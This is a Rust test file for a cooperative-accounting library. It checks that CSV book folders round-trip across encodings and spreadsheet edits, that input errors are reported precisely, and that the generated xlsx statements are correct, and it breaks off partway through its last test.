//! Book folders: the reference cooperative written as CSV files and read back, in three
//! encodings, as a spreadsheet would save them, broken in the ways people break them; and
//! the statements workbook read back with calamine.

mod common;

use landpool::folder::{
    outputs, write_all_outputs, write_outputs, BookFolder, Output, Problem, ProblemKind,
};
use landpool::{Error, PoolError};

fn ok<T>(result: Result<T, Error>) -> T {
    result.unwrap_or_else(|e| panic!("{e}"))
}

/// What a file operation of a test gave.
fn io<T>(result: std::io::Result<T>) -> T {
    result.unwrap_or_else(|e| panic!("{e}"))
}

fn reference() -> BookFolder {
    ok(BookFolder::reference())
}

/// What a season's run writes, in memory.
/// The workbook's sheets, written out here rather than taken from the library: each table's
/// CSV file and the name of its sheet.
#[cfg(feature = "xlsx")]
const SHEETS: [(&str, &str); 7] = [
    ("balance_sheet.csv", "资产负债表 Balance sheet"),
    ("surplus_distribution.csv", "盈余及盈余分配表 Surplus"),
    ("member_equity.csv", "成员权益变动表 Equity"),
    ("member_accounts.csv", "成员账户 Member accounts"),
    ("trial_balance.csv", "试算平衡表 Trial balance"),
    ("household_income.csv", "农户收入 Household income"),
    ("asset_register.csv", "固定资产明细 Asset register"),
];

/// The bytes of output `name` among `files`.
fn output(files: &[Output], name: &str) -> Vec<u8> {
    files
        .iter()
        .find(|o| o.name == name)
        .unwrap_or_else(|| panic!("{name}"))
        .bytes
        .clone()
}

fn run(folder: &BookFolder) -> Vec<Output> {
    let book = ok(folder.run());
    ok(outputs(&book, folder.settings()))
}

/// The reference folder's files, as bytes.
fn reference_files() -> Vec<(String, Vec<u8>)> {
    ok(reference().to_files())
        .into_iter()
        .map(|(name, text)| (name, text.into_bytes()))
        .collect()
}

fn assert_same_outputs(left: &[Output], right: &[Output]) {
    assert_eq!(left.len(), right.len());
    for (l, r) in left.iter().zip(right) {
        assert_eq!(l.name, r.name);
        assert!(l.bytes == r.bytes, "{} differs", l.name);
    }
}

/// A book folder written part-way would read as a whole one (a missing file has no rows):
/// a write that fails at one of the last files removes the files it had written.
#[cfg(unix)]
#[test]
fn a_book_folder_write_that_fails_part_way_leaves_no_files() {
    let dir = common::TempDir::new("write-fails");
    // A dangling link where payments.csv goes: it is not there to `exists`, but the file
    // cannot be created in its place, after every other file has been written.
    std::os::unix::fs::symlink(dir.join("nowhere"), dir.join("payments.csv"))
        .unwrap_or_else(|e| panic!("{e}"));
    match reference().write(dir.path()) {
        Err(Error::Io {
            path, operation, ..
        }) => {
            assert_eq!(path, dir.join("payments.csv").display().to_string());
            assert_eq!(operation, "creating");
        }
        other => panic!("{other:?}"),
    }
    let left: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap_or_else(|e| panic!("{e}"))
        .map(|entry| {
            entry
                .unwrap_or_else(|e| panic!("{e}"))
                .file_name()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    assert_eq!(left, ["payments.csv"]);
}

#[test]
fn init_then_run_gives_exactly_the_built_in_outputs() {
    let dir = common::TempDir::new("round-trip");
    let built_in = reference();
    ok(built_in.write(dir.path()));
    let read = ok(BookFolder::read(dir.path()));
    assert_eq!(
        read, built_in,
        "the events, their ids and sources read back the same"
    );
    let built_in_outputs = run(&built_in);
    let names: Vec<&str> = built_in_outputs.iter().map(|o| o.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "balance_sheet.csv",
            "surplus_distribution.csv",
            "member_equity.csv",
            "member_accounts.csv",
            "trial_balance.csv",
            "household_income.csv",
            "asset_register.csv",
            "statements.xlsx",
            "receipts.txt",
            "receipts.html",
            "general_ledger.csv",
            "journal.csv",
            "vouchers.html",
            "journal.hledger",
            "journal.beancount",
            "events.jsonl",
        ]
    );
    assert_same_outputs(&run(&read), &built_in_outputs);
    // The written folder is every file of a book folder and a README.
    let mut files: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap_or_else(|e| panic!("{e}"))
        .map(|e| {
            e.unwrap_or_else(|e| panic!("{e}"))
                .file_name()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    files.sort();
    assert_eq!(files.len(), 18);
    assert!(files.contains(&"README.txt".to_string()));
    // Writing again over the folder is refused, and changes nothing.
    let before = std::fs::read(dir.path().join("members.csv")).unwrap_or_default();
    // Otherwise a missing file would read as empty before and after, and compare equal.
    assert!(!before.is_empty(), "members.csv was written");
    let err = built_in.write(dir.path()).unwrap_err();
    assert!(
        matches!(
            err,
            Error::Io {
                kind: std::io::ErrorKind::AlreadyExists,
                ..
            }
        ),
        "{err}"
    );
    assert_eq!(
        std::fs::read(dir.path().join("members.csv")).unwrap_or_default(),
        before
    );
}

#[test]
fn the_reference_runs_to_the_seed_figures() {
    let folder = reference();
    let book = ok(folder.run());
    let distribution = book.distribution(2019).unwrap_or_else(|| panic!("closed"));
    assert_eq!(distribution.surplus.to_string(), "1976025.00");
    assert_eq!(distribution.reserve.to_string(), "197602.50");
    assert_eq!(distribution.patronage.to_string(), "1244895.75");
    let events = folder.events();
    assert_eq!(events.len(), 329);
    assert_eq!(events[0].id.as_str(), "jrf-2019-00001");
    let last = &events[events.len() - 1];
    assert_eq!(last.id.as_str(), "jrf-2019-00329");
    assert!(matches!(
        last.event,
        landpool::Event::YearClosed { year: 2019, .. }
    ));
    assert_eq!(
        (last.source.file.as_str(), last.source.line),
        ("policy.csv", 6)
    );
    // The ids are stable: reading twice gives the same.
    assert_eq!(ok(BookFolder::from_files(&reference_files())), folder);
}

#[test]
fn utf8_utf8_with_bom_and_gbk_give_identical_results() {
    let with_bom = reference_files();
    let without_bom: Vec<(String, Vec<u8>)> = with_bom
        .iter()
        .map(|(name, bytes)| {
            let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{e}"));
            (
                name.clone(),
                text.trim_start_matches('\u{feff}').as_bytes().to_vec(),
            )
        })
        .collect();
    let gbk: Vec<(String, Vec<u8>)> = without_bom
        .iter()
        .map(|(name, bytes)| {
            let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{e}"));
            let (encoded, _, unmappable) = encoding_rs::GBK.encode(text);
            assert!(!unmappable, "{name} has characters GBK cannot hold");
            (name.clone(), encoded.into_owned())
        })
        .collect();
    // The GBK files really are not UTF-8 (they hold Chinese), so detection is exercised.
    assert!(gbk
        .iter()
        .any(|(_, bytes)| std::str::from_utf8(bytes).is_err()));
    assert!(without_bom
        .iter()
        .all(|(_, bytes)| !bytes.starts_with(b"\xEF\xBB\xBF")));
    let expected = run(&reference());
    for files in [&with_bom, &without_bom, &gbk] {
        let folder = ok(BookFolder::from_files(files));
        assert_eq!(folder, reference());
        assert_same_outputs(&run(&folder), &expected);
    }
}

/// Replaces `column` of every data row of a CSV text by `f(old)`.
fn edit_column(text: &str, column: usize, f: impl Fn(&str) -> String) -> String {
    let mut out = String::new();
    for (i, line) in text.split("\r\n").enumerate() {
        if line.is_empty() {
            continue;
        }
        let mut cells: Vec<String> = line.split(',').map(str::to_string).collect();
        if i > 0 {
            if let Some(cell) = cells.get_mut(column) {
                *cell = f(cell);
            }
        }
        out.push_str(&cells.join(","));
        out.push_str("\r\n");
    }
    out
}

#[test]
fn a_folder_as_a_person_and_excel_leave_it_reads_the_same() {
    let mut files: Vec<(String, String)> = ok(reference().to_files());
    for (name, text) in &mut files {
        match name.as_str() {
            // English headers only, Excel's dates, amounts with ¥ and separators.
            "payments.csv" => {
                let header = "日期 date,类别 kind,对象 party,金额 amount,利息 interest,账户 account,股金来源 capital_source,资本溢价 premium,合同编号 contract,备注 note";
                assert!(text.contains(header), "payments.csv's header changed");
                let mut edited = text.replacen(
                    header,
                    "Date,KIND,party,Amount,interest,account,Capital Source,Premium,Contract",
                    1,
                );
                edited = edit_column(&edited, 0, |d| d.replace("-0", "/").replace('-', "/"));
                // Capital sources in English, as a person might spell them.
                edited = edit_column(&edited, 6, |s| s.replace("扶贫资产", "Poverty Relief"));
                edited = edit_column(&edited, 3, |a| {
                    let amount: landpool::Yuan = a.parse().unwrap_or_else(|e| panic!("{e}"));
                    let fen = amount.fen();
                    let yuan = fen / 100;
                    let grouped = if yuan >= 1000 {
                        format!("{},{:03}", yuan / 1000, yuan % 1000)
                    } else {
                        yuan.to_string()
                    };
                    format!("\"¥{grouped}.{:02}\"", fen % 100)
                });
                *text = edited;
            }
            // Chinese headers only, in another order; English words for the kinds.
            "members.csv" => {
                let mut out = String::from("入社日期,成员编号,姓名,人口,村,类别\r\n");
                for line in text.split("\r\n").skip(1).filter(|l| !l.is_empty()) {
                    let c: Vec<&str> = line.split(',').collect();
                    let kind = if c[2] == "农户" {
                        "household"
                    } else {
                        "Collective"
                    };
                    out.push_str(&format!(
                        "{},{},{},{},{},{}\r\n",
                        c[5].replace('-', "/"),
                        c[0],
                        c[1],
                        c[3],
                        c[4],
                        kind
                    ));
                }
                *text = out;
            }
            _ => {}
        }
    }
    // The Chinese name of a file, and a file that is not CSV (ignored).
    let files: Vec<(String, Vec<u8>)> = files
        .into_iter()
        .map(|(name, text)| {
            let name = if name == "parcels.csv" {
                "地块.csv".to_string()
            } else {
                name
            };
            (name, text.into_bytes())
        })
        .chain([("notes.txt".to_string(), b"\x00\x01".to_vec())])
        .collect();
    let folder = ok(BookFolder::from_files(&files));
    let expected = reference();
    assert_eq!(folder.settings(), expected.settings());
    assert_eq!(folder.events().len(), expected.events().len());
    for (got, want) in folder.events().iter().zip(expected.events()) {
        assert_eq!(got.id, want.id);
        assert_eq!(got.event, want.event, "{}", got.id);
        let file = if want.source.file == "parcels.csv" {
            "地块.csv"
        } else {
            &want.source.file
        };
        assert_eq!(
            (got.source.file.as_str(), got.source.line),
            (file, want.source.line)
        );
    }
}

/// Each case's errors, exactly. That the `season` binary then writes nothing (no `--out`
/// folder made, an existing one left as it was) is checked on the binary itself, in
/// `tests/season_cli.rs`.
#[test]
fn broken_books_give_the_expected_errors() {
    let cases = common::broken_cases();
    let bless = std::env::var_os("LANDPOOL_BLESS").is_some();
    for case in cases {
        let name = case
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let dir = common::TempDir::new(&format!("broken-{name}"));
        let book = dir.path().join("book");
        common::broken_folder(&case, &book);
        // What `season DIR` does before it writes anything.
        let result = BookFolder::read(&book).and_then(|folder| run_checked(&folder));
        let err = match result {
            Ok(_) => panic!("{name}: the broken book was accepted"),
            Err(err) => err,
        };
        let text = format!("{err}\n");
        let expected_path = case.join("expected.txt");
        if bless {
            std::fs::write(&expected_path, &text).unwrap_or_else(|e| panic!("{e}"));
        }
        let expected = std::fs::read_to_string(&expected_path)
            .unwrap_or_else(|e| panic!("{}: {e}", expected_path.display()));
        assert_eq!(text, expected, "{name}");
        match &err {
            Error::Folder(folder) => assert!(!folder.problems().is_empty(), "{name}"),
            other => panic!("{name}: {other:?}"),
        }
    }
}

fn run_checked(folder: &BookFolder) -> Result<Vec<Output>, Error> {
    let book = folder.run()?;
    outputs(&book, folder.settings())
}

#[test]
fn problems_are_typed_and_point_at_the_cell() {
    let problem = only_problem(&reference_edited("members.csv", |text| {
        text.replacen("H02,高秀英,农户,3,", "H02,高秀英,农户,三,", 1)
    }));
    assert_eq!(problem.kind, ProblemKind::BadNumber);
    assert_eq!(problem.file, "members.csv");
    assert_eq!(problem.line, Some(3));
    let column = problem
        .column
        .as_ref()
        .unwrap_or_else(|| panic!("a column"));
    assert_eq!((column.number, column.name.as_str()), (4, "人口 persons"));
}

/// The one problem reading `files` reports (the test fails if they read, or have more).
fn only_problem(files: &[(String, Vec<u8>)]) -> Problem {
    let err = BookFolder::from_files(files).unwrap_err();
    let Error::Folder(folder) = &err else {
        panic!("{err:?}")
    };
    let [problem] = folder.problems() else {
        panic!("{err}")
    };
    problem.clone()
}

/// The reference folder's files with `f` applied to the text of `name`.
fn reference_edited(name: &str, f: impl Fn(&str) -> String) -> Vec<(String, Vec<u8>)> {
    let mut files = reference_files();
    for (file, bytes) in &mut files {
        if file == name {
            let text = String::from_utf8(bytes.clone()).unwrap_or_else(|e| panic!("{e}"));
            *bytes = f(&text).into_bytes();
        }
    }
    files
}

/// A loan repaid with its interest on the day its interest is accrued through (the
/// reference's 计提利息 row of 2019-12-31, then the loan repaid that day) is refused, and the
/// problem says what to do: date the repayment later, or accrue the interest through the day
/// before, which is what a repayment pays (no interest on its own day). Before, it said only
/// that a change of principal must be dated after the accrual, which sends an accountant
/// repaying at maturity to a date after the loan's end.
#[test]
fn a_repayment_on_a_day_already_accrued_says_to_accrue_through_the_day_before() {
    let repaid = "2019-12-31,还款,L2019-01,500000.00,21750.00,银行,,,,\n";
    let files = reference_edited("payments.csv", |text| format!("{text}{repaid}"));
    let folder = ok(BookFolder::from_files(&files));
    let err = run_checked(&folder).err().map(|e| e.to_string());
    assert_eq!(
        err.as_deref(),
        Some(
            "1 problem in the book folder:\npayments.csv, line 89: the book refuses this row: \
             loan L2019-01: jrf-2019-00329 on 2019-12-31: interest is accrued through \
             2019-12-31; a change of principal must be dated after it, or the interest accrued \
             through 2019-12-30 at the latest (a drawdown bears interest from its own day, a \
             repayment's principal none on its day: its interest is accrued through the day \
             before)"
        )
    );
    // Done as it says: 500,000.00 × 4.35% × 364 / 365 = 21,690.41 accrued through 30
    // December and paid with the principal on the 31st; nothing is left owing.
    let mut files = reference_edited("adjustments.csv", |text| {
        text.replace("2019-12-31,计提利息", "2019-12-30,计提利息")
    });
    for (name, bytes) in &mut files {
        if name == "payments.csv" {
            bytes.extend_from_slice(repaid.replace("21750.00", "21690.41").as_bytes());
        }
    }
    let outputs = run(&ok(BookFolder::from_files(&files)));
    let sheet = String::from_utf8(output(&outputs, "balance_sheet.csv")).unwrap_or_default();
    let surplus =
        String::from_utf8(output(&outputs, "surplus_distribution.csv")).unwrap_or_default();
    let line = "6,财务费用,Finance expenses,10815.41,0.00";
    assert!(surplus.lines().any(|l| l == line), "{line}\n{surplus}");
    for line in [
        "28,应付利息,Interest payable,0.00,0.00",
        "32,长期借款,Long-term loans,0.00,0.00",
    ] {
        assert!(sheet.lines().any(|l| l == line), "{line}\n{sheet}");
    }
}

/// A contract's `付租日 pay_by` (a month and day, `03-01`) that Excel took for a date and
/// saved as a whole date with this year (`2026/3/1`), or as the day's number (`46082`) when
/// the column is formatted as a number: the problem says the cell takes a month and day only
/// and how to keep it (3月1日 in a Text column). Before, the number got a date cell's hint,
/// "format the column as a date", which gives the whole date, refused in turn with no hint.
#[test]
fn a_pay_by_day_excel_made_a_date_says_to_write_a_month_and_day() {
    for (found, shown) in [("2026/3/1", "\"2026/3/1\""), ("46082", "\"46082\"")] {
        let files = reference_edited("contracts.csv", |text| {
            text.replacen(",预付,03-01,", &format!(",预付,{found},"), 1)
        });
        let err = BookFolder::from_files(&files).unwrap_err();
        let Error::Folder(folder) = &err else {
            panic!("{err:?}")
        };
        let first = folder.problems().first().map(|p| p.to_string());
        assert_eq!(
            first.as_deref(),
            Some(
                format!(
                    "contracts.csv, line 2, column 21 \"付租日 pay_by\": expected a month and day \
                     such as 03-01 or 3/1, found {shown}: the cell takes a month and day only, \
                     the same every year; Excel writes a whole date (with this year), or its \
                     number, when it took the cell for a date or the column is formatted as a \
                     date: write it as 3月1日 in a column formatted as Text, which Excel keeps as \
                     it is"
                )
                .as_str()
            ),
            "{err}"
        );
    }
    // Written as it says, the folder reads as the reference.
    let files = reference_edited("contracts.csv", |text| {
        text.replace(",预付,03-01,", ",预付,3月1日,")
    });
    assert_eq!(ok(BookFolder::from_files(&files)), reference());
}

#[test]
fn the_words_for_all_greenhouses_and_administration_read_in_every_spelling() {
    // costs.csv charges four costs to 全部大棚 and one to 管理 (column 4, charged_to).
    let expected = reference();
    for (all, administration) in [
        ("all_greenhouses", "administration"),
        ("All Greenhouses", "ADMINISTRATION"),
        ("全部大棚 all_greenhouses", "管理 administration"),
        ("所有大棚", "管理费用"),
        ("全部大棚（共28个）", "管理（办公）"),
    ] {
        let files = reference_edited("costs.csv", |text| {
            edit_column(text, 3, |cell| match cell {
                "全部大棚" => all.to_string(),
                "管理" => administration.to_string(),
                other => other.to_string(),
            })
        });
        assert_eq!(
            ok(BookFolder::from_files(&files)),
            expected,
            "{all} / {administration}"
        );
    }
    // A word that only looks like one is a greenhouse id, and there is no such greenhouse.
    let problem = only_problem(&reference_edited("costs.csv", |text| {
        text.replacen(",管理,", ",ADMIN,", 1)
    }));
    assert_eq!(problem.kind, ProblemKind::UnknownReference);
    assert_eq!(problem.file, "costs.csv");
    // A labour row's task: 管理 in each spelling gives the same events.
    let task = |word: &'static str| {
        reference_edited("labour.csv", move |text| {
            text.replacen(
                "2019-03-31,H01,,GH01,",
                &format!("2019-03-31,H01,,{word},"),
                1,
            )
        })
    };
    let administration = ok(BookFolder::from_files(&task("管理")));
    assert_ne!(administration, expected);
    for word in [
        "administration",
        "Administration",
        "管理 administration",
        "管理费用",
    ] {
        assert_eq!(
            ok(BookFolder::from_files(&task(word))),
            administration,
            "{word}"
        );
    }
}

#[test]
fn every_problem_of_a_file_is_reported() {
    let mut files = reference_files();
    for (name, bytes) in &mut files {
        if name == "harvests.csv" {
            let text = String::from_utf8(bytes.clone()).unwrap_or_default();
            *bytes = edit_column(&text, 2, |_| "many".into()).into_bytes();
        }
    }
    let err = BookFolder::from_files(&files).unwrap_err();
    let Error::Folder(folder) = &err else {
        panic!("{err:?}")
    };
    assert_eq!(folder.problems().len(), 28, "{err}");
    assert!(err.to_string().starts_with("28 problems in the book folder:\nharvests.csv, line 2, column 3 \"重量(公斤) kg\": expected a number above zero, such as 8.00, found \"many\"\n"));
}

#[cfg(feature = "xlsx")]
#[test]
fn the_workbook_holds_the_csv_values() {
    use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};

    let files = run(&reference());
    let find = |name: &str| output(&files, name);
    let mut workbook: Xlsx<_> =
        open_workbook_from_rs(std::io::Cursor::new(find("statements.xlsx")))
            .unwrap_or_else(|e| panic!("{e}"));
    let sheets = SHEETS;
    assert_eq!(
        workbook.sheet_names(),
        sheets.map(|(_, sheet)| sheet.to_string())
    );
    let mut numbers = 0;
    for (csv_name, sheet) in sheets {
        let text = String::from_utf8(find(csv_name)).unwrap_or_default();
        let rows = common::csv_rows(&text);
        let range = workbook
            .worksheet_range(sheet)
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(range.start(), Some((0, 0)), "{sheet}");
        assert_eq!(range.height(), rows.len(), "{sheet}");
        for (r, row) in rows.iter().enumerate() {
            for (c, want) in row.iter().enumerate() {
                let got = range.get((r, c)).unwrap_or(&Data::Empty);
                match got {
                    Data::Empty => assert_eq!(want, "", "{sheet} {r},{c}"),
                    Data::String(s) => assert_eq!(s, want, "{sheet} {r},{c}"),
                    Data::Float(f) => {
                        numbers += 1;
                        let exact: f64 = want
                            .parse()
                            .unwrap_or_else(|e| panic!("{sheet} {r},{c} {want:?}: {e}"));
                        assert_eq!(*f, exact, "{sheet} {r},{c}");
                        if let Some((_, places)) = want.split_once('.') {
                            assert_eq!(format!("{f:.*}", places.len()), *want, "{sheet} {r},{c}");
                        }
                    }
                    Data::Int(i) => {
                        numbers += 1;
                        assert_eq!(i.to_string(), *want, "{sheet} {r},{c}");
                    }
                    other => panic!("{sheet} {r},{c}: {other:?}"),
                }
            }
        }
        // Codes and member ids stay text.
        if csv_name == "trial_balance.csv" {
            assert_eq!(range.get((1, 0)), Some(&Data::String("102".into())));
        }
    }
    assert!(numbers > 500, "amounts are numbers, not text ({numbers})");
    // The same statements give the same bytes.
    assert!(
        find("statements.xlsx")
            == run(&reference())
                .iter()
                .find(|o| o.name == "statements.xlsx")
                .map(|o| o.bytes.clone())
                .unwrap_or_default()
    );
}

/// The statements' workbook is made on a second thread while the tables are made; it is
/// byte for byte the workbook of the six CSV files made on its own.
#[cfg(feature = "xlsx")]
#[test]
fn the_workbook_made_beside_the_tables_is_the_workbook_of_the_csv_files() {
    let files = run(&reference());
    let texts: Vec<String> = SHEETS
        .iter()
        .map(|(csv_name, _)| String::from_utf8(output(&files, csv_name)).unwrap_or_default())
        .collect();
    let sheets: Vec<(&str, &str)> = SHEETS
        .iter()
        .zip(&texts)
        .map(|((_, sheet), text)| (*sheet, text.as_str()))
        .collect();
    let alone = ok(landpool::folder::workbook(
        &sheets,
        time::macros::date!(2019 - 12 - 31),
    ));
    assert!(output(&files, "statements.xlsx") == alone);
}

/// The workbook's formatting, read from its XML (calamine gives only the values): amounts
/// shown as `#,##0.00`, header rows bold and frozen, every column given a width.
#[cfg(feature = "xlsx")]
mod workbook_format {
    use super::*;
    use std::collections::BTreeSet;
    use std::io::Read;

    /// Each element `<name …>…</name>` or `<name …/>` of `xml` (not nested in one of the
    /// same name): its attributes (` a="1" b="2"`) and its content.
    fn elements<'a>(xml: &'a str, name: &str) -> Vec<(&'a str, &'a str)> {
        let open = format!("<{name}");
        let close = format!("</{name}>");
        let mut found = Vec::new();
        let mut rest = xml;
        while let Some(at) = rest.find(&open) {
            rest = &rest[at + open.len()..];
            // `<col` is not `<cols>`, nor `<c` `<col`.
            if !rest.starts_with([' ', '/', '>']) {
                continue;
            }
            let end = rest
                .find('>')
                .unwrap_or_else(|| panic!("<{name} is not closed"));
            let attributes = &rest[..end];
            rest = &rest[end + 1..];
            match attributes.strip_suffix('/') {
                Some(attributes) => found.push((attributes, "")),
                None => {
                    let end = rest.find(&close).unwrap_or_else(|| panic!("no {close}"));
                    found.push((attributes, &rest[..end]));
                    rest = &rest[end + close.len()..];
                }
            }
        }
        found
    }

    /// The value of attribute `key` in `attributes`.
    fn attr<'a>(attributes: &'a str, key: &str) -> Option<&'a str> {
        let start = format!(" {key}=\"");
        let at = attributes.find(&start)? + start.len();
        let len = attributes[at..].find('"')?;
        Some(&attributes[at..at + len])
    }

    /// The one element `name` of `xml`.
    fn only<'a>(xml: &'a str, name: &str) -> (&'a str, &'a str) {
        match elements(xml, name)[..] {
            [one] => one,
            ref other => panic!("{} <{name}> elements", other.len()),
        }
    }

    fn index(text: Option<&str>) -> usize {
        text.and_then(|t| t.parse().ok())
            .unwrap_or_else(|| panic!("{text:?} is not an index"))
    }

    /// `D12` as (row 11, column 3), counted from 0.
    fn position(reference: &str) -> (usize, usize) {
        let letters = reference.bytes().take_while(u8::is_ascii_uppercase).count();
        let column = reference
            .bytes()
            .take(letters)
            .fold(0usize, |n, b| n * 26 + usize::from(b - b'A') + 1);
        let row: usize = reference[letters..]
            .parse()
            .unwrap_or_else(|e| panic!("{reference}: {e}"));
        (row - 1, column - 1)
    }

    /// An amount as the statements write it: digits, a point and two decimals.
    fn amount(text: &str) -> bool {
        let (whole, fraction) = text
            .strip_prefix('-')
            .unwrap_or(text)
            .split_once('.')
            .unwrap_or(("", ""));
        !whole.is_empty()
            && whole.bytes().all(|b| b.is_ascii_digit())
            && fraction.len() == 2
            && fraction.bytes().all(|b| b.is_ascii_digit())
    }

    #[test]
    fn amounts_are_shown_with_two_decimals_under_bold_frozen_headers_in_set_widths() {
        let files = run(&reference());
        let file = |name: &str| output(&files, name);
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(file("statements.xlsx")))
            .unwrap_or_else(|e| panic!("{e}"));
        let mut read = |name: &str| {
            let mut text = String::new();
            zip.by_name(name)
                .unwrap_or_else(|e| panic!("{name}: {e}"))
                .read_to_string(&mut text)
                .unwrap_or_else(|e| panic!("{name}: {e}"));
            text
        };

        let styles = read("xl/styles.xml");
        // One number format `#,##0.00`, a custom one (Excel's own end at 163).
        let money_formats: Vec<&str> = elements(&styles, "numFmt")
            .into_iter()
            .filter(|(a, _)| attr(a, "formatCode") == Some("#,##0.00"))
            .map(|(a, _)| attr(a, "numFmtId").unwrap_or_default())
            .collect();
        let [money_format] = money_formats[..] else {
            panic!("numFmts with #,##0.00: {money_formats:?}\n{styles}")
        };
        assert!(index(Some(money_format)) >= 164, "{money_format}");
        let fonts: Vec<&str> = elements(only(&styles, "fonts").1, "font")
            .into_iter()
            .map(|(_, content)| content)
            .collect();
        let xfs: Vec<&str> = elements(only(&styles, "cellXfs").1, "xf")
            .into_iter()
            .map(|(a, _)| a)
            .collect();
        let shows_amounts = |style: usize| {
            attr(xfs[style], "numFmtId") == Some(money_format)
                && attr(xfs[style], "applyNumberFormat") == Some("1")
        };
        let bold = |style: usize| {
            let font = index(attr(xfs[style], "fontId"));
            attr(xfs[style], "applyFont") == Some("1") && fonts[font].contains("<b/>")
        };

        // The sheets, in order, and their parts.
        let workbook = read("xl/workbook.xml");
        let rels = read("xl/_rels/workbook.xml.rels");
        let sheets: Vec<(String, String)> = elements(&workbook, "sheet")
            .into_iter()
            .map(|(a, _)| {
                let id = attr(a, "r:id").unwrap_or_else(|| panic!("{a}"));
                let (rel, _) = elements(&rels, "Relationship")
                    .into_iter()
                    .find(|(r, _)| attr(r, "Id") == Some(id))
                    .unwrap_or_else(|| panic!("{id}"));
                (
                    attr(a, "name").unwrap_or_default().to_string(),
                    format!("xl/{}", attr(rel, "Target").unwrap_or_default()),
                )
            })
            .collect();
        let csvs = SHEETS;
        assert_eq!(
            sheets
                .iter()
                .map(|(name, _)| name.as_str())
                .collect::<Vec<_>>(),
            csvs.map(|(_, sheet)| sheet)
        );
        for ((csv_name, _), (sheet, part)) in csvs.iter().zip(&sheets) {
            let text = String::from_utf8(file(csv_name)).unwrap_or_default();
            let rows = common::csv_rows(&text);
            let header = &rows[0];
            let xml = read(part);

            // The header row frozen: one pane, split under row 1, nothing left of it.
            let (pane, _) = only(&xml, "pane");
            assert_eq!(attr(pane, "ySplit"), Some("1"), "{sheet}: {pane}");
            assert_eq!(attr(pane, "xSplit"), None, "{sheet}: {pane}");
            assert_eq!(attr(pane, "state"), Some("frozen"), "{sheet}: {pane}");
            assert_eq!(attr(pane, "topLeftCell"), Some("A2"), "{sheet}: {pane}");

            // Every column of the table given its width.
            let mut widened = BTreeSet::new();
            for (col, _) in elements(&xml, "col") {
                assert_eq!(attr(col, "customWidth"), Some("1"), "{sheet}: {col}");
                let width: f64 = attr(col, "width")
                    .and_then(|w| w.parse().ok())
                    .unwrap_or_else(|| panic!("{sheet}: {col}"));
                assert!((6.0..=49.0).contains(&width), "{sheet}: {col}");
                widened.extend(index(attr(col, "min"))..=index(attr(col, "max")));
            }
            assert_eq!(
                widened,
                (1..=header.len()).collect::<BTreeSet<_>>(),
                "{sheet}: the columns given a width"
            );

            // The cells: (row, column) → (style, attributes, content).
            let cells: std::collections::BTreeMap<(usize, usize), (usize, &str, &str)> =
                elements(&xml, "c")
                    .into_iter()
                    .map(|(a, content)| {
                        let at = position(attr(a, "r").unwrap_or_else(|| panic!("{a}")));
                        (at, (attr(a, "s").map_or(0, |s| index(Some(s))), a, content))
                    })
                    .collect();

            // The header cells bold.
            let headers: Vec<usize> = cells
                .iter()
                .filter(|((row, _), _)| *row == 0)
                .map(|(_, (style, _, _))| *style)
                .collect();
            assert_eq!(headers.len(), header.len(), "{sheet}: the header cells");
            for style in headers {
                assert!(bold(style), "{sheet}: header style {style} is not bold");
            }

            // A column of amounts (every filled cell under the header with two decimals):
            // each of its cells a number in a `#,##0.00` style.
            let mut amounts = 0;
            for col in 0..header.len() {
                let filled: Vec<(usize, &str)> = rows
                    .iter()
                    .enumerate()
                    .skip(1)
                    .filter_map(|(r, row)| row.get(col).map(|cell| (r, cell.as_str())))
                    .filter(|(_, cell)| !cell.is_empty())
                    .collect();
                if filled.is_empty() || !filled.iter().all(|(_, cell)| amount(cell)) {
                    continue;
                }
                for (r, want) in filled {
                    let (style, a, content) = cells
                        .get(&(r, col))
                        .unwrap_or_else(|| panic!("{sheet}: no cell at {r},{col}"));
                    assert!(
                        shows_amounts(*style),
                        "{sheet} {r},{col} {want}: style {style} is {}",
                        xfs[*style]
                    );
                    assert_eq!(attr(a, "t"), None, "{sheet} {r},{col}: a number cell");
                    let value: f64 = only(content, "v")
                        .1
                        .parse()
                        .unwrap_or_else(|e| panic!("{sheet} {r},{col}: {e}"));
                    assert_eq!(value, want.parse::<f64>().unwrap_or_default());
                    amounts += 1;
                }
            }
            assert!(amounts > 0, "{sheet} has no amounts");
            // And no other cell shown as an amount.
            for ((r, col), (style, _, _)) in &cells {
                if shows_amounts(*style) {
                    let csv = rows[*r].get(*col).map_or("", String::as_str);
                    assert!(
                        amount(csv),
                        "{sheet} {r},{col}: {csv:?} is shown as an amount"
                    );
                }
            }
        }
    }
}

#[test]
fn a_service_can_write_the_outputs_of_a_folder() {
    let dir = common::TempDir::new("outputs");
    let files = run(&reference());
    ok(write_outputs(dir.path(), &files));
    let receipts = std::fs::read_to_string(dir.path().join("receipts.html")).unwrap_or_default();
    assert!(receipts.contains("人民币"));
    assert_eq!(receipts.matches("<section class=\"receipt\">").count(), 28);
}

/// The statements, journals and events written as they are made: when one cannot take its
/// name (a folder is where `events.jsonl` goes), none replaces the file of the run before
/// and no temporary file is left behind.
#[test]
fn all_outputs_written_as_they_are_made_replace_none_when_one_cannot_be() {
    let dir = common::TempDir::new("all-outputs-refused");
    let folder = reference();
    let book = ok(folder.run());
    io(std::fs::write(
        dir.join("balance_sheet.csv"),
        "the run before\n",
    ));
    io(std::fs::create_dir(dir.join("events.jsonl")));
    match write_all_outputs(&book, folder.settings(), dir.path()) {
        Err(Error::Io {
            path, operation, ..
        }) => {
            assert_eq!(path, dir.join("events.jsonl").display().to_string());
            assert_eq!(operation, "replacing it");
        }
        other => panic!("{other:?}"),
    }
    let mut left: Vec<String> = io(std::fs::read_dir(dir.path()))
        .map(|entry| io(entry).file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, ["balance_sheet.csv", "events.jsonl"]);
    assert_eq!(
        io(std::fs::read_to_string(dir.join("balance_sheet.csv"))),
        "the run before\n"
    );
    // With the folder out of the way, the same call writes every file.
    io(std::fs::remove_dir(dir.join("events.jsonl")));
